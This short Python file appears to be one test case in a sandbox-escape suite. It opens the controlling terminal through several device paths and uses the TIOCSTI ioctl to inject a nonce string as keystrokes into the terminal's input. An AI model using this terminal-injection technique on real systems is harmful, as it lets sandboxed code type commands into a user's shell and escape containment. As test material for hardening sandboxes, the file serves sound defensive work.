# SPDX-License-Identifier: Apache-2.0
# attack: the terminal is opened by its names: /dev/tty, /dev/pts/N, /proc/self/fd/0 for writing
# class: tty
# wins: tty
# stdin: tty
from kit import *

tried()
n = ctypes.c_int(-1)
sc('ioctl', 0, 0x80045430, ctypes.byref(n))
for p in ('/dev/tty', '/dev/pts/%d' % n.value, '/dev/console', '/proc/self/fd/0'):
    fd = openat(p, os.O_RDWR | os.O_NOCTTY)
    if fd >= 0:
        for ch in b'typed-' + NONCE.encode():
            sc('ioctl', fd, 0x5412, ctypes.byref(ctypes.c_char(ch)))
        sc('ioctl', fd, 0x5414, struct.pack('<HHHH', 1, 1, 0, 0))
